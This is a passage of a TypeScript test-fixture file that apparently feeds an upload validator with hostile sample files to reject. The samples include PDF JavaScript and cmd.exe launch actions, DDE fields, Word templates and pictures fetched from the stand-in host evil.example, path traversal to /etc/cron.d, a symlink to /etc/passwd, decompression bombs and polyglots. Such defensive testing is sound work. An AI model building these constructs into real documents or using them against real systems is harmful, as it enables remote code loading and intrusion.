9QIC0yMDU2IC9QZXJtcyA8MzUzZDljNGY2MzZmZGQxZDJmNzM1NjY3MzMwMmNlMGM+IC9SIDYgL1N0bUYgL1N0ZENGIC9TdHJGIC9TdGRDRiAvVSA8ZDBlZmUwOTU1MmFiZGRlYjYyYjJiZDNlZGI5YTg4MDYyODYyMGZhYjVmMWRiMjFjYmQ3ZDJlY2IzOTJmZmYyNGIxMTI1NmYzNWYzMWJlZjdkNTQzZDBhMjY5ZjRhOWQ4PiAvVUUgPDA4NTYyMTMwYTNiNWVhZWJlYzA5ZjNhYTg0OTIwZGRmMDVjM2I2NGExMTQ3NTE0NjRlN2RjMjRjZTQ4N2I0MGE+IC9WIDUgPj4KZW5kb2JqCjcgMCBvYmoKPDwgL1R5cGUgL1hSZWYgL0xlbmd0aCAzOCAvRmlsdGVyIC9GbGF0ZURlY29kZSAvRGVjb2RlUGFybXMgPDwgL0NvbHVtbnMgNCAvUHJlZGljdG9yIDEyID4+IC9XIFsgMSAyIDEgXSAvUm9vdCAxIDAgUiAvU2l6ZSA4IC9JRCBbPDVmMzU1YWQzMjQ3NTA0OTZjMjA1MDcyMmFiNTA3MGFlPjw1ZjM1NWFkMzI0NzUwNDk2YzIwNTA3MjJhYjUwNzBhZT5dIC9FbmNyeXB0IDYgMCBSID4+CnN0cmVhbQp4nGNiAAImRgZ+BiYGhlYQKw/EYmCEEP8Zp/1jYmBSYwAALp8D0wplbmRzdHJlYW0KZW5kb2JqCnN0YXJ0eHJlZgo5NTgKJSVFT0YK",
  ),
};

/** A PDF with the password `secret`. */
export const WITH_PASSWORD = pdf(
  "JVBERi0xLjcKJb/3ov4KMSAwIG9iago8PCAvRXh0ZW5zaW9ucyA8PCAvQURCRSA8PCAvQmFzZVZlcnNpb24gLzEuNyAvRXh0ZW5zaW9uTGV2ZWwgOCA+PiA+PiAvT3BlbkFjdGlvbiA1IDAgUiAvUGFnZXMgMyAwIFIgL1R5cGUgL0NhdGFsb2cgPj4KZW5kb2JqCjIgMCBvYmoKPDwgL1R5cGUgL09ialN0bSAvTGVuZ3RoIDEyOCAvRmlsdGVyIC9GbGF0ZURlY29kZSAvTiAzIC9GaXJzdCAxNSA+PgpzdHJlYW0K/wU6cI5r+o11H+UcRGSjzXwji8UhE9Cxxvj7Y2e9j9xnc0nTvKDLY1DBNstRZBHnD1BErNpD1I4dURcFaQe0Cc3Qesech3ugNt5PdyqKiTcPd0+FyKYTvcJSSF8kC50TrmNu3r8q+En22mLJZhtbJpwJReN3v4k3nyKRKBxCHudlbmRzdHJlYW0KZW5kb2JqCjYgMCBvYmoKPDwgL0NGIDw8IC9TdGRDRiA8PCAvQXV0aEV2ZW50IC9Eb2NPcGVuIC9DRk0gL0FFU1YzIC9MZW5ndGggMzIgPj4gPj4gL0ZpbHRlciAvU3RhbmRhcmQgL0xlbmd0aCAyNTYgL08gPDExMzI5MTcyN2ZmOWNkNTg0ODYwYjQ1YjI0Mjc4YjI0MjRjYTY3NjAxYTRmZjllZDIzZmZiODA5Y2YzNzc1MTE2M2MyZmZlN2I0NTE5NGNhODFjYzc2NGUzYjAzOTQ0Zj4gL09FIDxhYWY4ZjgwMGY2Y2UzZDlhNWZlNGU1MDEwMGE2MGVjZGVkNGM5NjdiYjlkYzg2YzBhOWY5ZjVlZmMyODhiYTljPiAvUCAtNCAvUGVybXMgPDM4ZWZiNTFiN2U0NDcwOTNjMTdkMmY1Y2JmMzBjMTY5PiAvUiA2IC9TdG1GIC9TdGRDRiAvU3RyRiAvU3RkQ0YgL1UgPDA4ZDYxNGMzN2VkYmQyOGZhMTkyM2UyYzlhMTAxODU2NTJlMGM1OGMwNmRlODdiNzQ1MGU5NWEyYjg1ZTJhMmE4MzQ3OGJkM2U0MTI4YjM2NDMzMGQ1YWU0NjdjNTM3NT4gL1VFIDwxNWExMzg1YjEyNDM4NDRkZDcwMzI5NzQwOWI2MjYyZTg0NjJiOWQxZmNhZWU4ZTdlYzgzM2Y0NWM3N2VmZTIyPiAvViA1ID4+CmVuZG9iago3IDAgb2JqCjw8IC9UeXBlIC9YUmVmIC9MZW5ndGggMzggL0ZpbHRlciAvRmxhdGVEZWNvZGUgL0RlY29kZVBhcm1zIDw8IC9Db2x1bW5zIDQgL1ByZWRpY3RvciAxMiA+PiAvVyBbIDEgMiAxIF0gL1Jvb3QgMSAwIFIgL1NpemUgOCAvSUQgWzw2ZjVjNGE1YzIyZjRkNDQxNTFiMjhhMmRkNDgyZTdjNz48NmY1YzRhNWMyMmY0ZDQ0MTUxYjI4YTJkZDQ4MmU3Yzc+XSAvRW5jcnlwdCA2IDAgUiA+PgpzdHJlYW0KeJxjYgACJkYGfgYmBoZWECsPxGJghBD/Gcv+MTEwKTMAAC25A7AKZW5kc3RyZWFtCmVuZG9iagpzdGFydHhyZWYKOTIzCiUlRU9GCg==",
);

const WORD = { name: "WordDocument", type: 2 } as const;
const MEGABYTE = 1024 * 1024;
const big = Buffer.alloc(60 * MEGABYTE);

const WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const contentTypes = (...types: string[]) =>
  `<Types>${types.map((type) => `<Override PartName="/word/document.xml" ContentType="${type}"/>`).join("")}</Types>`;

/** A Word document with these content types, document and other parts. */
const wordWith = (types: string, document = "<w:document/>", more: readonly ZipPart[] = []) =>
  sampleZip([{ name: "[Content_Types].xml", data: types }, { name: "word/document.xml", data: document }, ...more]);
export const withDocument = (document: string) => wordWith(contentTypes(WORD_MAIN), document);
const withPart = (name: string, data: string | Buffer) => sampleDocx([{ name, data }]);
const RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
export const withRelationship = (type: string, target: string, mode = "External") =>
  withPart(
    "word/_rels/settings.xml.rels",
    `<Relationships><Relationship Id="a" Type="${RELATIONSHIPS}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
  );

const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
export const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
export const field = (...codes: string[]) =>
  `<w:p>${mark("begin")}${codes.join("")}${mark("separate")}${mark("end")}</w:p>`;

/** Field codes that load a file or data, from another server if its address says so. */
const LOADING_FIELDS = [
  'INCLUDEPICTURE "https://evil.example/a.png" \\d',
  'includetext "https://evil.example/a.docx"',
  'INCLUDE "c:\\a.doc"',
  'IMPORT "https://evil.example/a.png"',
  'RD "https://evil.example/a.docx"',
  'LINK Excel.Sheet.8 "c:\\a.xls"',
  'DATABASE \\d "c:\\a.mdb"',
  'HYPERLINK "\\\\evil.example\\a"',
  'HYPERLINK \\o "A tip" "FILE:///\\\\evil.example/a"',
  "HYPERLINK //evil.example/a",
] as const;

const utf16 = (xml: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, "utf16le")]);
const bytesOf = (text: string) => Buffer.from(text, "latin1");
/** A PDF with one more object. */
export const pdfWith = (object: string | Buffer, more = "") =>
  Buffer.concat([
    bytesOf("%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n9 0 obj\n"),
    Buffer.from(object),
    bytesOf(`\nendobj\n${more}trailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n`),
  ]);
/** An object stream with one object. */
export const objectStream = (
  object: string,
  dictionary = "/Filter/FlateDecode",
  pack: (bytes: Buffer) => Buffer = (bytes) => deflateSync(bytes),
) => {
  const head = "7 0 ";
  const packed = pack(Buffer.from(head + object));
  return Buffer.concat([
    bytesOf(`<</Type/ObjStm/N 1/First ${head.length}/Length ${packed.length}${dictionary}>>\nstream\n`),
    packed,
    bytesOf("\nendstream"),
  ]);
};
const asIs = (bytes: Buffer) => bytes;
export const changed = (file: Buffer | undefined, before: string, after: string) =>
  bytesOf((file as Buffer).toString("latin1").replace(before, after));
/** A PDF inside the comment of a ZIP that starts in the PDF: valid as both. */
const pdfAndZip = () => {
  const pdf = samplePdf();
  const archive = sampleZip([{ name: "a.exe", data: "MZ" }]);
  archive.writeUInt16LE(60, archive.length - 2);
  return Buffer.concat([pdf.subarray(0, 15), archive, pdf.subarray(15)]);
};
/** A compound file with a PDF header in an unused sector. */
const withPdfHead = (doc: Buffer) => {
  const copy = Buffer.from(doc);
  copy.write("%PDF-1.4", 900, "latin1");
  return copy;
};
const withComment = (jpg: Buffer, comment: Buffer) => {
  const head = Buffer.from([0xff, 0xfe, 0, 0]);
  head.writeUInt16BE(comment.length + 2, 2);
  return Buffer.concat([jpg.subarray(0, 2), head, comment, jpg.subarray(2)]);
};
/** An archive whose comment is the rest of the picture. */
const pngWithChunk = () => {
  const png = samplePng();
  const archive = sampleZip([{ name: "a", data: "x" }]);
  return Buffer.concat([png.subarray(0, 33), pngChunk("zIPf", archive), png.subarray(33)]);
};
const compound = Buffer.from("d0cf11e0a1b11ae1", "hex");

/** Files that must be rejected, by the expected error. */
const BY_ERROR = {
  empty: [["nothing", Buffer.alloc(0)]],
  otherType: [
    ["text", Buffer.from("Dear team, I weave.")],
    ["a page", Buffer.from("<!doctype html><script>alert(1)</script>")],
    ["a program", Buffer.from("MZ\u0090\u0000\u0003 This program cannot be run")],
    ["a GIF", Buffer.from("GIF89a\u0001\u0000\u0001\u0000")],
    ["a page with a PDF inside", Buffer.concat([Buffer.from("<html>"), samplePdf()])],
    ["a compound file that is a spreadsheet", sampleDoc([{ name: "Workbook", type: 2 }])],
    ["a compound file whose WordDocument is a folder", sampleDoc([{ name: "WordDocument", type: 1 }])],
    ["any ZIP", sampleZip([{ name: "a.txt", data: "x" }])],
    ["a spreadsheet", sampleZip([DOCX_PARTS[0] as never, { name: "xl/workbook.xml", data: "x" }])],
    ["a ZIP without content types", sampleZip([DOCX_PARTS[1] as never])],
    [
      "a DOCX whose types name another document",
      sampleZip([{ name: "[Content_Types].xml", data: "<Types/>" }, DOCX_PARTS[1] as never]),
    ],
    [
      "a macro document whose other type is in a comment",
      wordWith(`<Types><!-- ${WORD_MAIN} --><Override PartName="/word/document.xml" ContentType="x"/></Types>`),
    ],
  ],
  damaged: [
    ["a PDF's first line before a page", Buffer.from("%PDF-1.4\n<html><script>alert(1)</script></html>")],
    ["a PDF with a program behind it", Buffer.concat([samplePdf(), Buffer.alloc(2000, "MZ")])],
    ["a PDF of no version", Buffer.from(samplePdf().toString("latin1").replace("%PDF-1.4", "%PDF-x.y"), "latin1")],
    [
      "a PDF whose trailer points nowhere",
      Buffer.from(
        samplePdf()
          .toString("latin1")
          .replace(/startxref\n\d+/, "startxref\n99999999"),
        "latin1",
      ),
    ],
    ["a PDF without objects", Buffer.from("%PDF-1.4\nstartxref\n3\n%%EOF\n")],
    ["a PDF with an object stream packed twice", pdfWith(objectStream("x", "/Filter[/ASCIIHexDecode/FlateDecode]"))],
    ["a PDF with an object stream with a predictor", pdfWith(objectStream("x", "/Filter/FlateDecode/DecodeParms<<>>"))],
    ["a PNG with a ZIP behind it", Buffer.concat([samplePng(), sampleDocx()])],
    ["a JPEG without a picture", Buffer.from([0xff, 0xd8, 0xff, 0xd9])],
    ["a compound file that runs in circles", sampleDoc([WORD], { loop: true })],
    ["a DOCX with a DTD", withDocument('<!DOCTYPE a [<!ENTITY b "c">]><w:document/>')],
    ["a DOCX in an encoding of its own", withDocument('<?xml version="1.0" encoding="utf-7"?><w:document/>')],
    ["a DOCX whose XML does not end", withDocument("<w:document>")],
    [
      "a DOCX that unpacks to more than it says",
      sampleDocx([{ name: "a", data: big.subarray(0, 20 * MEGABYTE), fake: { size: 10 } }]),
    ],
    ["a DOCX that unpacks to less than it says", sampleDocx([{ name: "a", data: "short", fake: { size: 10 } }])],
    ["a DOCX that climbs out of its folder", sampleDocx([{ name: "../../etc/cron.d/x", data: "x" }])],
    ["a DOCX with a backslash", sampleDocx([{ name: "..\\x", data: "x" }])],
    ["a DOCX with a link", sampleDocx([{ name: "a", data: "/etc/passwd", mode: 0o120777 }])],
    ["a DOCX with a part twice", sampleDocx([{ name: "WORD/document.xml", data: "x" }])],
    ["a DOCX with two names for a part", sampleDocx([{ name: "a", data: "x", fake: { localName: "b" } }])],
    ["a DOCX with overlapping parts", sampleDocx([{ name: "a", data: "x", fake: { offset: 0, localName: "a" } }])],
    ["a DOCX with a part beyond its end", sampleDocx([{ name: "a", data: "x", fake: { packedSize: 99_999 } }])],
    ["a DOCX with data before it", sampleDocx([], { before: "PK\u0003\u0004 hidden" })],
    ["a DOCX with data behind it", sampleDocx([], { after: "hidden" })],
  ],
  scripts: [
    ["a PDF with a script", pdfWith("<</S/JavaScript/JS(app.alert\\(1\\))>>")],
    ["a PDF with a script under an escaped name", pdfWith("<</S/J#61v#61Scrip#74/J#53(x)>>")],
    ["a PDF with a script that runs when it opens", pdfWith("<</OpenAction<</S/JavaScript/JS(x)>>>>")],
    ["a PDF with a script behind a comment", pdfWith("%(\n<</S%)\n/JavaScript>>")],
    ["a PDF whose script begins inside a text", pdfWith("(8 0 obj<</S/JavaScript/JS(x)>>)")],
    ["a PDF whose script is in a stream", pdfWith("<<>>stream\n8 0 obj<</S/JavaScript>>endobj\nendstream")],
    ["a PDF that starts a program", pdfWith("<</S/Launch/Win<</F(cmd.exe)>>>>")],
    ["a PDF with an XFA form", pdfWith("<</AcroForm<</XFA 8 0 R>>>>")],
    ["a PDF with a script in an object stream", pdfWith(objectStream("<</S/JavaScript/JS(x)>>"))],
    ["a PDF with an escaped script in an object stream", pdfWith(objectStream("<</S/#4aavaScript/JS(x)>>"))],
    ["a PDF with a script in a plain object stream", pdfWith(objectStream("<</S/Launch>>", "", asIs))],
    [
      "a PDF with a script behind a string that seems to end its stream",
      pdfWith(objectStream("<</T(endstream)/AA<</S/Launch>>>>", "", asIs)),
    ],
    ...Object.entries(RESTRICTED_SCRIPTS).map(([kind, file]) => [`a PDF with a script behind ${kind}`, file] as const),
    [
      "a PDF with an object stream that says it is none",
      pdfWith(bytesOf(objectStream("<</S/Launch>>").toString("latin1").replace("/Type/ObjStm", "/Type/XObject"))),
    ],
  ],
  bomb: [
    ["a PDF with an object stream that bursts", pdfWith(objectStream(`(${" ".repeat(60 * MEGABYTE)})`))],
    ["a PNG that paints a continent", samplePng({ width: 60_000, height: 60_000 })],
    ["a JPEG that paints a continent", sampleJpg({ width: 65_000, height: 65_000 })],
    [
      "a DOCX that unpacks to 300 MB",
      sampleDocx(Array.from({ length: 5 }, (_, index) => ({ name: `${index}`, data: big }))),
    ],
    [
      "a DOCX that shrinks a thousandfold",
      sampleDocx([{ name: "word/media/a", data: big.subarray(0, 20 * MEGABYTE) }]),
    ],
    ["a DOCX with a size of ZIP64", sampleDocx([{ name: "a", data: "x", fake: { size: 0xffffffff } }])],
  ],
  embedded: [
    ["a PDF with a file in it", pdfWith("<</Names<</EmbeddedFiles 8 0 R>>>>")],
    ["a PDF with a file in a note", pdfWith("<</Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 8 0 R>>>>>>")],
    ["a DOC with a file in it", sampleDoc([WORD, { name: "\u0001Ole10Native", type: 2 }])],
    ["a DOC with an object in it", sampleDoc([WORD, { name: "_1234567890", type: 1 }])],
    ["a DOCX with a compound file under a harmless name", withPart("word/media/a.png", compound)],
    ["a DOCX with an embedded object", withRelationship("oleObject", "embeddings/a.bin", "Internal")],
    ["a DOCX with an ActiveX control", withRelationship("control", "activeX/a.xml", "Internal")],
    ["a DOCX with a page of HTML in it", withRelationship("aFChunk", "a.mht", "Internal")],
  ],
  remote: [
    ["a PDF that opens another", pdfWith("<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)>>")],
    ["a DOC with a DDE field", Buffer.concat([sampleDoc(), Buffer.from("\u0013 DdeAuto c:\\x", "utf16le")])],
    [
      "a DOC with a picture from a share",
      Buffer.concat([sampleDoc(), bytesOf('\u0013INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png"')]),
    ],
    ["a DOCX with a template from the web", withRelationship("attachedTemplate", "https://evil.example/a.dotm")],
    [
      "a DOCX with a template from a share as a URL",
      withRelationship("attachedTemplate", "file://evil.example/a.dotm"),
    ],
    [
      "a DOCX with a template whose address hides",
      withRelationship("attachedTemplate", "ht&#10;tp&#58;//evil.example/a"),
    ],
    ["a DOCX with a picture from a share", withRelationship("image", "file://evil.example/a.png")],
    ["a DOCX with a frame from the web", withRelationship("frame", "http://evil.example/a")],
    ["a DOCX with a link to a share", withRelationship("hyperlink", "file://evil.example/a")],
    [
      "a DOCX with a link whose address is far behind its name",
      withDocument(
        `<w:document>${field(code("HYPERLINK"), code(" ".repeat(5_000)), code('"file://evil.example/a"'))}</w:document>`,
      ),
    ],
    ["a DOCX with a simple DDE field", withDocument('<w:document><w:fldSimple w:instr=" dde excel"/></w:document>')],
    [
      "a DOCX with a DDE field in pieces",
      withDocument(`<w:document>${field(code(" D"), code("<!-- -->DE"), code("<![CDATA[AU]]>TO c:"))}</w:document>`),
    ],
    [
      "a DOCX with a DDE field under another prefix",
      withDocument(`<w:document>${field(code("DDE x")).replaceAll("w:", "x:")}</w:document>`),
    ],
    [
      "a DOCX with a field whose name is computed",
      withDocument(`<w:document>${field(field(code("QUOTE 68 68 69")), code(" c:"))}</w:document>`),
    ],
    [
      "a DOCX with a DDE field in a header of UTF-16",
      sampleDocx([{ name: "word/a.dat", data: utf16(`<w:hdr>${field(code("DDE x"))}</w:hdr>`) }]),
    ],
    ...LOADING_FIELDS.filter((each) => !each.startsWith("INCLUDEPICTURE")).flatMap(
      (each) =>
        [
          [`a DOC with the field ${each}`, Buffer.concat([sampleDoc(), bytesOf(`\u0013 ${each} \u0014`)])],
          [`a DOC with ${each} in UTF-16`, Buffer.concat([sampleDoc(), Buffer.from(`\u0013${each}\u0014`, "utf16le")])],
        ] as const,
    ),
    ...LOADING_FIELDS.map((each) => {
      const document = `<w:document>${field(code(` ${each} `))}</w:document>`;
      return [`a DOCX with the field ${each}`, withDocument(document)] as const;
    }),
  ],
  locked: [
    ["a PDF with a password", WITH_PASSWORD],
    ["a PDF with another kind of lock", pdfWith("<<>>", "trailer<</Encrypt 8 0 R>>\n")],
    [
      "a PDF with a second lock",
      Buffer.concat([
        (RESTRICTED["aes-256"] as Buffer).subarray(0, 15),
        WITH_PASSWORD.subarray(15),
        RESTRICTED["aes-256"] as Buffer,
      ]),
    ],
    [
      "a PDF with two crypt filters of one name",
      changed(RESTRICTED_SCRIPTS["aes-128"], "/CF << ", "/CF << /StdCF << /CFM /V2 >> "),
    ],
    ["a PDF whose key does not fit its method", changed(RESTRICTED_SCRIPTS["aes-128"], "/AESV2", "/AESV3")],
    [
      "a PDF that names the method of its lock elsewhere",
      changed(RESTRICTED_SCRIPTS["rc4-unpacked"], "/V 2", "/V 4/StmF/A/CF 8 0 R"),
    ],
    ...["/CF 8 0 R/X<</A<</CFM/None>>>>", "/CF<</A 8 0 R>>/X<</A<</CFM/None>>>>"].map((filters) => {
      const decoy = changed(RESTRICTED_SCRIPTS["rc4-unpacked"], "/V 2", `/V 4/StmF/A${filters}`);
      /* As an encrypted stream with AES may begin. */
      const file = Buffer.from(
        decoy.toString("latin1").replace(/(?<=First 15 >>\nstream\n).{15}/s, "1 0".padEnd(15)),
        "latin1",
      );
      return [`a PDF with a decoy for the method of its lock: ${filters}`, file] as const;
    }),
    ["a DOC with a password", sampleDoc([WORD], { encrypted: true })],
    ["a DOCX with a password", sampleDoc([{ name: "EncryptedPackage", type: 2 }])],
    ["a DOCX with an encrypted part", sampleDocx([{ name: "a", data: "x", flags: 1 }])],
  ],
  ambiguous: [
    ["a PDF that is an archive too", pdfAndZip()],
    ["a PDF with an archive behind it", Buffer.concat([samplePdf(), sampleZip([{ name: "a", data: "x" }])])],
    [
      "a PDF that is a page too",
      bytesOf(samplePdf().toString("latin1").replace("\n", "\n%<html><script>x</script>\n")),
    ],
    ["a PDF with a page behind it", Buffer.concat([samplePdf(), bytesOf("<script>x</script>")])],
    [
      "a JPEG with an archive behind some bytes",
      Buffer.concat([sampleJpg(), Buffer.from("more"), sampleZip([{ name: "a", data: "x" }])]),
    ],
    ["a JPEG with a page behind it", Buffer.concat([sampleJpg(), bytesOf("\n <!DOCTYPE html><p>x")])],
    ["a JPEG with a program behind it", Buffer.concat([sampleJpg(), bytesOf("MZ\u0090\0")])],
    ["a JPEG with a PDF in its comment", withComment(sampleJpg(), samplePdf())],
    ["a PNG with a ZIP in a chunk", pngWithChunk()],
    ["a DOC that is an archive too", Buffer.concat([sampleDoc(), sampleZip([{ name: "a", data: "x" }])])],
    ["a DOC that is a PDF too", withPdfHead(sampleDoc())],
    ["a DOCX that is a PDF too", sampleZip([{ name: "a", data: samplePdf(), stored: true }, ...DOCX_PARTS])],
  ],
  macros: [
    ["a DOC with macros", sampleDoc([WORD, { name: "Macros", type: 1 }])],
    ["a DOC with the macros of a book", sampleDoc([WORD, { name: "_vba_project_cur", type: 1 }])],
    ["a DOC with a macro project", sampleDoc([WORD, { name: "_Vba_Project", type: 2 }])],
    ["a DOCX with macros", sampleDocx([{ name: "word/vbaProject.bin", data: "x" }])],
    [
      "a macro document by its types",
      sampleZip([
        { name: "[Content_Types].xml", data: contentTypes("application/vnd.ms-word.document.macroEnabled.main+xml") },
        DOCX_PARTS[1] as never,
      ]),
    ],
    [
      "a macro document whose type is written with entities",
      wordWith(contentTypes("application/vnd.ms-word.document.&#109;acro&#x45;nabled.main+xml", WORD_MAIN)),
    ],
    [
      "a macro document by its types in UTF-16",
      sampleZip([
        {
          name: "[Content_Types].xml",
          data: utf16(contentTypes("application/vnd.ms-word.document.macroEnabled.main+xml")),
        },
        DOCX_PARTS[1] as never,
      ]),
    ],
    [
      "a macro project under another name",
      wordWith(
        `<Types><Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="${WORD_MAIN}"/></Types>`,
        undefined,
        [{ name: "word/a.dat", data: "x" }],
      ),
    ],
    [
      "a macro project by its relationship",
      withPart(
        "word/_rels/document.xml.rels",
        '<Relationships><Relationship Id="a" Type="http://schemas.microsoft.com/office/2006/relationships/&#118;baProject" Target="a.dat"/></Relationships>',
      ),
    ],
  ],
  tooComplex: [
    [
      "a DOCX of 5,000 parts",
      sampleDocx(Array.from({ length: 5_000 }, (_, index) => ({ name: `${index}`, data: "x", stored: true }))),
    ],
  ],
} satisfies Partial<Record<UploadError, (readonly [name: string, bytes: Buffer])[]>>;

/** Files that must be rejected, with the expected error. */
export const HOSTILE_FILES = Object.entries(BY_ERROR).flatMap(([error, files]) =>
  files.map(([name, bytes]) => [name, bytes, error as UploadError] as const),
);
